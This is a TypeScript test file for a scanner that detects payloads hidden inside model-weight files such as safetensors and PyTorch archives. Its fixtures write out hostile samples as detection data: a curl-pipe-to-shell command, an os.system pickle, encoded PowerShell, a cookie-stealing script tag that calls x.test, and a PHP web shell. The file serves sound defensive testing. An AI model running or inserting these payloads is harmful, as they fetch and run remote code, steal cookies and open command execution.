import { deflateRawSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { concat, latin1, u16, u32 } from '#formats/test-files/bytes';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { rawSafetensors } from '#formats/test-files/safetensors';
import { makeZip } from '#formats/test-files/zip';
import { scanBytes } from '../test-scan.ts';

/** Numbers that look like trained weights: seeded, so that each run sees the same bytes. */
function weights(bytes: number, seed = 1): Uint8Array {
  const values = new Float32Array(bytes / 4);
  let state = seed;
  for (let index = 0; index < values.length; index += 1) {
    let sum = 0;
    for (let draw = 0; draw < 6; draw += 1) {
      state = (Math.imul(state, 1_664_525) + 1_013_904_223) | 0;
      sum += (state >>> 8) / 2 ** 24;
    }
    values[index] = (sum - 3) * 0.05;
  }
  return new Uint8Array(values.buffer);
}

function planted(payload: Uint8Array, at: number, size = 2_000_000): Uint8Array {
  const data = weights(size);
  data.set(payload, at);
  return rawSafetensors(`{"layer.weight":{"dtype":"F32","shape":[${size / 4}],"data_offsets":[0,${size}]}}`, data);
}

const headerOf = (file: Uint8Array) => 8 + Number(new DataView(file.buffer, file.byteOffset).getBigUint64(0, true));

function elf(): Uint8Array {
  return concat('\x7fELF\x02\x01\x01', new Uint8Array(9), u16(2), u16(62), u32(1), new Uint8Array(40));
}
function windowsProgram(): Uint8Array {
  return concat('MZ', new Uint8Array(58), u32(128), new Uint8Array(64), 'PE\0\0', u16(0x8664), u16(3), new Uint8Array(60));
}
const machO = concat(u32(0xfeedfacf), u32(0x0100000c), u32(0), u32(2), u32(3), u32(300), new Uint8Array(300));
const tarHeader = (() => {
  const header = new Uint8Array(1024);
  header.set(latin1('run.sh'), 0);
  header.set(latin1('0000644\x000000000\x000000000\x0000000000014\x0014000000000\x00        0'), 100);
  header.set(latin1('ustar\x0000'), 257);
  const sum = header.reduce((total, byte) => total + byte, 0);
  header.set(latin1(`${sum.toString(8).padStart(6, '0')}\0 `), 148);
  return header;
})();
const noise = Uint8Array.from({ length: 4000 }, (_, index) => (index * index * 31 + index * 7) % 251);
const pickle = stream(reduce('posix', 'system', op.text('id')));
const headless = concat('\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.');

const payloads: readonly (readonly [name: string, payload: Uint8Array, rule: string])[] = [
  ['an ELF program', elf(), 'MDL-WGT-001'],
  ['a Windows program', windowsProgram(), 'MDL-WGT-001'],
  ['a Mach-O program', machO, 'MDL-WGT-001'],
  ['a WebAssembly module', concat('\0asm\x01\0\0\0', 1, 4, 1, 0x60, 0, 0), 'MDL-WGT-001'],
  ['a zip archive', makeZip([{ name: 'run.py', data: latin1('print(1)') }]), 'MDL-WGT-002'],
  ['a packed zip archive', makeZip([{ name: 'run.bin', data: noise, deflate: true, descriptor: true }]), 'MDL-WGT-002'],
  ['a gzip stream', new Uint8Array(gzipSync(noise)), 'MDL-WGT-002'],
  ['a Zstandard stream', new Uint8Array(zstdCompressSync(noise)), 'MDL-WGT-002'],
  ['a 7-Zip archive', latin1('7z\xbc\xaf\x27\x1c\x00\x04aaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'MDL-WGT-002'],
  ['an xz stream', latin1('\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46'), 'MDL-WGT-002'],
  ['a bzip2 stream', latin1('BZh91AY&SY\x12\x34\x56\x78'), 'MDL-WGT-002'],
  ['a tar archive', tarHeader, 'MDL-WGT-002'],
  ['a pickle', pickle, 'MDL-WGT-003'],
  ['a pickle without a protocol mark', concat(reduce('os', 'system', op.text('id')), '.'), 'MDL-WGT-003'],
  ['a pickle that imports by the stack, without a mark', headless, 'MDL-WGT-003'],
  ['a shell script', latin1('#!/bin/sh\ncurl http://x.test/a | sh\n'), 'MDL-WGT-004'],
  ['Python', latin1('import os\nos.system("curl http://x.test/a | sh")\n'), 'MDL-WGT-004'],
  ['a short call', latin1('__import__("os").system("id")'), 'MDL-WGT-004'],
  ['PowerShell', latin1('powershell -nop -w hidden -enc SQBFAFgA'), 'MDL-WGT-004'],
  ['a script element', latin1('<script>fetch("//x.test/"+document.cookie)</script>'), 'MDL-WGT-004'],
  ['PHP', latin1('<?php system($_GET["c"]); ?>'), 'MDL-WGT-004'],
  [
    'a pickle in base64',
    latin1(Buffer.from(concat(stream(reduce('posix', 'system', op.text('curl http://x.test/aaaaaaaaaaaaaaa'))))).toString('base64')),
    'MDL-WGT-004',
  ],
  ['a private key', latin1('-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n'), 'MDL-WGT-005'],
];

test.each(payloads)('%s among weights is found at its first byte', (_name, payload, rule) => {
  for (const at of [4096, 262_111 - 100, 1_234_567]) {
    const file = planted(payload, at);
    const found = scanBytes(file).observations.find(({ ruleId }) => ruleId === rule);
    // In front of a text a byte of the weights may happen to be a character.
    const slack = ['MDL-WGT-004', 'MDL-WGT-005'].includes(rule) ? 3 : 0;
    expect(Math.abs((found?.location.offset ?? 0) - headerOf(file) - at)).toBeLessThanOrEqual(slack);
    expect(found?.evidence?.bytes?.hex).toContain(Buffer.from(payload.subarray(0, 8)).toString('hex'));
  }
});

test('what a payload would do is told by the scanner of its own format, on the right bytes', () => {
  const file = planted(pickle, 500_000);
  const scan = scanBytes(file);
  expect(scan.verdict).toBe('critical');
  expect(scan.contents.find(({ member }) => member.startsWith('pickle'))?.from).toBe(headerOf(file) + 500_000);
  const zipped = scanBytes(planted(makeZip([{ name: 'a/data.pkl', data: pickle, deflate: true }]), 700_001));
  expect(zipped.rules).toEqual(expect.arrayContaining(['MDL-PKL-001', 'MDL-WGT-002']));
});

test('the members of an archive that was found are not told one by one', () => {
  const parts = Array.from({ length: 30 }, (_, index) => ({ name: `${index}.txt`, data: latin1(`text ${index}`) }));
  const scan = scanBytes(planted(makeZip(parts), 4096));
  expect(scan.observations.filter(({ ruleId }) => ruleId === 'MDL-WGT-002')).toHaveLength(1);
});

test('a payload in a storage of a PyTorch archive is found there', () => {
  const storage = weights(100_000);
  storage.set(elf(), 40_004);
  const file = makeZip([
    { name: 'm/data.pkl', data: stream('}') },
    { name: 'm/data/0', data: storage },
    { name: 'm/data/1', data: deflateRawSync(weights(64)) },
    { name: 'm/version', data: latin1('3\n') },
  ]);
  const found = scanBytes(file).observations.filter(({ ruleId }) => ruleId.startsWith('MDL-WGT'));
  expect(found.map(({ location }) => location)).toMatchObject([{ member: 'm/data/0', offset: 40_004 }]);
});

test('weights, random bytes and ordinary text are left alone', () => {
  const random = new Uint8Array(4_000_000);
  let state = 7;
  for (let index = 0; index < random.length; index += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) | 0;
    random[index] = state >>> 16;
  }
  const text = latin1('The quick brown fox jumps over the lazy dog; import duties evaluate subprocess costs. '.repeat(200));
  for (const data of [weights(4_000_000), random, text])
    expect(
      scanBytes(rawSafetensors(`{"w":{"dtype":"U8","shape":[${data.length}],"data_offsets":[0,${data.length}]}}`, data)).rules.filter(
        (id) => id !== 'MDL-STF-012',
      ),
    ).toEqual([]);
});

test('bytes made to look like many starts end at the limit, in time, and are told', () => {
  const starts = Buffer.alloc(8_000_000, 'PK\x03\x04\x14\0\0\0\x08\0aaaaaaaaaaaaaaaa\x04\0\0\0name', 'latin1');
  const begun = performance.now();
  const scan = scanBytes(rawSafetensors(`{"w":{"dtype":"U8","shape":[8000000],"data_offsets":[0,8000000]}}`, starts));
  expect(scan.verdict).toBe('high');
  expect(performance.now() - begun).toBeLessThan(60_000);
});
